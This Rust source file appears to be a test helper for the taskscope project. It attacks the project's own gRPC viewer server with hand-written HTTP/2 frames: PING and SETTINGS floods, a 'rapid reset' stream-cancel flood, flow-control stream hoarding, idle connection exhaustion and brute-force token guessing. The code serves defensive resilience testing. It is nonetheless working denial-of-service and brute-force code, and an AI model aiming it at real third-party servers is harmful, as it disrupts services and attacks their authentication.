//! A hostile client of taskscope's viewer server, in a process of its own so
//! that the tests (`tests/viewer_faults.rs`) can run it at a lower priority
//! than the app and measure what it costs the app, not what it costs the
//! machine. It speaks raw HTTP/2 (frames written by hand), as an attacker
//! would:
//!
//! - `flooder ping ADDR`: PING frames as fast as the connection takes them,
//!   reading every answer;
//! - `flooder settings ADDR`: SETTINGS frames, the same way;
//! - `flooder reset ADDR`: the "rapid reset": a ListTasks call (HEADERS) and
//!   its RST_STREAM at once, again and again;
//! - `flooder hoard ADDR N`: N ListTasks calls, 16 a connection, whose
//!   answers are never read past the first 64 KiB of flow-control window
//!   (no WINDOW_UPDATE is ever sent), held open until killed;
//! - `flooder idle ADDR N`: N HTTP/2 connections that never make a call,
//!   each opened again when the server closes it;
//! - `flooder guess ADDR`: ListTasks calls with wrong tokens, 4 on each
//!   connection, on one connection after the other (a brute force).
//!
//! The floods reconnect when the server closes their connection. Prints
//! `connected` once the first connection is up, then `closed N` each time
//! the server closed one (N so far); `hoard` prints `sent N` when all its
//! calls are sent, and `closed N` likewise.

use std::io::Write;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const LIST_TASKS: &str = "/taskscope.v1.Taskscope/ListTasks";

fn say(line: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{line}");
    let _ = out.flush();
}

/// One HTTP/2 frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len();
    let mut out = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// HPACK: a literal header field without indexing, with a new name.
fn literal(out: &mut Vec<u8>, name: &str, value: &str) {
    out.push(0x00);
    out.push(name.len() as u8);
    out.extend_from_slice(name.as_bytes());
    out.push(value.len() as u8);
    out.extend_from_slice(value.as_bytes());
}

/// The header block of a gRPC call to `path` (HPACK, no Huffman coding).
fn call_headers(path: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http (static table)
    literal(&mut block, ":path", path);
    literal(&mut block, ":authority", "localhost");
    literal(&mut block, "content-type", "application/grpc");
    literal(&mut block, "te", "trailers");
    block
}

/// A ListTasksRequest { protocol_version: 1 }, gRPC-framed.
const LIST_REQUEST: [u8; 7] = [0, 0, 0, 0, 2, 0x08, 1];

/// Connects and opens HTTP/2 (the preface and an empty SETTINGS); a task
/// reads and drops whatever the server sends. `None` when the server refuses.
async fn open(addr: &str) -> Option<tokio::net::tcp::OwnedWriteHalf> {
    open_watched(addr).await.map(|(write, _)| write)
}

/// Like [`open`]; the task that reads ends when the server closes.
async fn open_watched(
    addr: &str,
) -> Option<(tokio::net::tcp::OwnedWriteHalf, tokio::task::JoinHandle<()>)> {
    let tcp = TcpStream::connect(addr).await.ok()?;
    let _ = tcp.set_nodelay(true);
    let (mut read, mut write) = tcp.into_split();
    let mut hello = PREFACE.to_vec();
    hello.extend(frame(0x4, 0, 0, &[]));
    write.write_all(&hello).await.ok()?;
    let reader = tokio::spawn(async move {
        let mut buf = vec![0u8; 64 * 1024];
        while matches!(read.read(&mut buf).await, Ok(n) if n > 0) {}
    });
    Some((write, reader))
}

/// Keeps `n` connections open that never call; each is opened again when
/// the server closes it.
async fn idle(addr: String, n: usize) {
    let closed = Arc::new(AtomicU64::new(0));
    let opened = Arc::new(AtomicU64::new(0));
    for _ in 0..n {
        let (addr, closed, opened) = (addr.clone(), Arc::clone(&closed), Arc::clone(&opened));
        tokio::spawn(async move {
            loop {
                let Some((_write, reader)) = open_watched(&addr).await else {
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    continue;
                };
                if opened.fetch_add(1, Ordering::Relaxed) + 1 == n as u64 {
                    say(&format!("connected {n}"));
                }
                let _ = reader.await;
                let k = closed.fetch_add(1, Ordering::Relaxed) + 1;
                say(&format!("closed {k}"));
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        });
    }
    std::future::pending::<()>().await;
}

/// Wrong-token calls, 4 a connection, one connection after the other.
async fn guess(addr: String) {
    let mut closed = 0u64;
    let mut guess = 0u64;
    loop {
        let Some((mut write, reader)) = open_watched(&addr).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        let mut bytes = Vec::new();
        for i in 0..4u32 {
            let stream = 1 + 2 * i;
            let mut headers = call_headers(LIST_TASKS);
            guess += 1;
            literal(
                &mut headers,
                "authorization",
                &format!("Bearer guess-{guess:016}"),
            );
            bytes.extend(frame(0x1, 0x4, stream, &headers));
            bytes.extend(frame(0x0, 0x1, stream, &LIST_REQUEST));
        }
        if write.write_all(&bytes).await.is_ok() {
            let _ = reader.await;
        }
        closed += 1;
        say(&format!("closed {closed}"));
    }
}

/// Writes `batch` again and again on fresh connections; counts the closes.
async fn flood(addr: String, batch: impl Fn(u32) -> (Vec<u8>, u32)) {
    let closed = AtomicU64::new(0);
    let mut first = true;
    loop {
        let Some(mut conn) = open(&addr).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        if first {
            say("connected");
            first = false;
        }
        let mut stream = 1u32;
        loop {
            let (bytes, next) = batch(stream);
            stream = next;
            if conn.write_all(&bytes).await.is_err() {
                break;
            }
        }
        let n = closed.fetch_add(1, Ordering::Relaxed) + 1;
        say(&format!("closed {n}"));
        // Reconnect at once, as an attacker would (a little pause: never spin).
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

/// Opens `n` ListTasks calls, 16 a connection, and never reads their answers
/// past the initial flow-control window.
async fn hoard(addr: String, n: usize) {
    let closed = Arc::new(AtomicU64::new(0));
    let mut conns = Vec::new();
    let mut sent = 0;
    while sent < n {
        let Some(mut conn) = open(&addr).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        let headers = call_headers(LIST_TASKS);
        let mut bytes = Vec::new();
        let calls = (n - sent).min(16);
        for i in 0..calls as u32 {
            let stream = 1 + 2 * i;
            bytes.extend(frame(0x1, 0x4, stream, &headers));
            bytes.extend(frame(0x0, 0x1, stream, &LIST_REQUEST));
        }
        if conn.write_all(&bytes).await.is_err() {
            continue;
        }
        sent += calls;
        conns.push(conn);
    }
    say(&format!("sent {sent}"));
    // Hold them; say when the server closes one (a write fails).
    let ping = frame(0x6, 0, 0, &[1; 8]);
    loop {
        tokio::time::sleep(Duration::from_secs(2)).await;
        let mut open = Vec::new();
        for mut conn in conns.drain(..) {
            if conn.write_all(&ping).await.is_ok() {
                open.push(conn);
            } else {
                let n = closed.fetch_add(1, Ordering::Relaxed) + 1;
                say(&format!("closed {n}"));
            }
        }
        conns = open;
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (Some(mode), Some(addr)) = (args.first(), args.get(1)) else {
        panic!("usage: flooder ping|settings|reset|hoard|idle|guess ADDR [N]");
    };
    let (mode, addr) = (mode.clone(), addr.clone());
    let count = args.get(2).and_then(|n| n.parse().ok()).unwrap_or(2_000);
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    let ping = frame(0x6, 0, 0, &[7; 8]);
    let settings = frame(0x4, 0, 0, &[]);
    let headers = call_headers(LIST_TASKS);
    runtime.block_on(async move {
        match mode.as_str() {
            "ping" => flood(addr, |s| (ping.repeat(256), s)).await,
            "settings" => flood(addr, |s| (settings.repeat(256), s)).await,
            "reset" => {
                flood(addr, |first| {
                    let mut bytes = Vec::new();
                    let mut stream = first;
                    for _ in 0..64 {
                        bytes.extend(frame(0x1, 0x4, stream, &headers));
                        // CANCEL
                        bytes.extend(frame(0x3, 0, stream, &8u32.to_be_bytes()));
                        stream += 2;
                    }
                    (bytes, stream)
                })
                .await
            }
            "hoard" => hoard(addr, count).await,
            "idle" => idle(addr, count).await,
            "guess" => guess(addr).await,
            other => panic!("unknown mode {other:?}"),
        }
    });
}
